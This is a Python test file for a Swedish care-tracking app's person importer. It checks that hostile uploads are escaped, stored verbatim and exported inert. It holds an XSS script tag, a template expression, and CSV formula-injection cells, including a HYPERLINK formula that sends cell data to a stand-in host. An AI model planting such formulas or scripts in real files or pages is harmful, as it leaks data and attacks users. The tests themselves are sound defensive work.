"""Hostile files for the importer: script tags and template syntax in names, formula cells."""

import csv
import io
from datetime import date

from sqlalchemy import func, select

from tests.imports.conftest import csv_bytes, pnr, xlsx_bytes
from tracker.auth.models import Authority
from tracker.imports.models import PendingImport
from tracker.people.models import Individual

HEADER = ["Personnummer", "Förnamn", "Efternamn", "Kön", "Hemkommun"]
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")'
SCRIPT = "<script>alert(1)</script>"


def _upload(client, data: bytes, name: str):
    return client.post(
        "/import/personer", data={"file": (io.BytesIO(data), name)}, content_type="multipart/form-data"
    )


def _token(html: str) -> str:
    return html.split('name="token" type="hidden" value="')[1].split('"')[0]


def test_hostile_names_in_a_csv_import_are_previewed_escaped_stored_verbatim_and_exported_inert(
    client, login_as, factory, db
):
    user = login_as("rehabkoordinator")
    rows = [
        HEADER,
        [pnr(71), FORMULA, SCRIPT, "Kvinna", "{{7*7}}"],
        [pnr(72), "+1+1", "@SUM(A1)", "Man", "-2"],
    ]
    preview = _upload(client, csv_bytes(rows, encoding="utf-8", bom=True), "personer.csv")
    html = preview.get_data(as_text=True)
    assert preview.status_code == 200
    assert SCRIPT not in html
    assert html.count("<td>skapas</td>") == 2  # the preview lists rows by status, never names
    assert client.post("/import/personer/bekrafta", data={"token": _token(html)}).status_code == 302
    person = db.session.scalar(select(Individual).where(Individual.first_name == FORMULA))
    assert (person.last_name, person.home_municipality) == (SCRIPT, "{{7*7}}")  # stored as typed
    page = client.get(f"/personer/{person.public_id}").get_data(as_text=True)
    assert SCRIPT not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    factory.certificate(person, issued_on=date(2026, 3, 1), clinic=user.organisation)
    factory.consent(person, parties=[Authority.FK])  # so the FK list names the person
    db.session.commit()
    export = client.get("/formaner/lakarutlatanden/export.csv?sedan=2026-02-01").get_data(as_text=True)
    names = [row[-1] for row in csv.reader(io.StringIO(export.lstrip("\ufeff")), delimiter=";") if row]
    assert f"'{FORMULA} {SCRIPT}" in names
    assert not [n for n in names if n.startswith(("=", "+", "-", "@"))]


def test_formula_cells_in_an_xlsx_import_are_refused_or_kept_as_text_never_evaluated(client, login_as, db):
    login_as("rehabkoordinator")
    rows = [HEADER, [pnr(73), "=1+1", "=A1&A1", "Kvinna", '=HYPERLINK("x")']]
    preview = _upload(client, xlsx_bytes(rows), "personer.xlsx")
    html = preview.get_data(as_text=True)
    assert preview.status_code in (200, 422)
    if "bekrafta" in html:
        assert client.post("/import/personer/bekrafta", data={"token": _token(html)}).status_code == 302
        person = db.session.scalar(
            select(Individual).where(Individual.personnummer == pnr(73).replace("-", ""))
        )
        assert person.first_name == "=1+1" and person.home_municipality == '=HYPERLINK("x")'
    else:
        assert db.session.scalar(select(func.count()).select_from(Individual)) == 0


def test_a_script_named_file_and_a_fake_xlsx_are_refused_with_a_swedish_message(client, login_as, db):
    login_as("rehabkoordinator")
    for data, name in (
        (b"<script>alert(1)</script>", "<script>alert(1)</script>.csv"),
        (b"PK\x03\x04 not really a zip", "personer.xlsx"),
        (b"\x00\x01\x02binary", "personer.csv"),
    ):
        response = _upload(client, data, name)
        html = response.get_data(as_text=True)
        assert response.status_code in (200, 422), name
        assert "<script>alert(1)" not in html and "Traceback" not in html
        assert "bekrafta" not in html
    assert db.session.scalar(select(func.count()).select_from(PendingImport)) == 0
    assert db.session.scalar(select(func.count()).select_from(Individual)) == 0
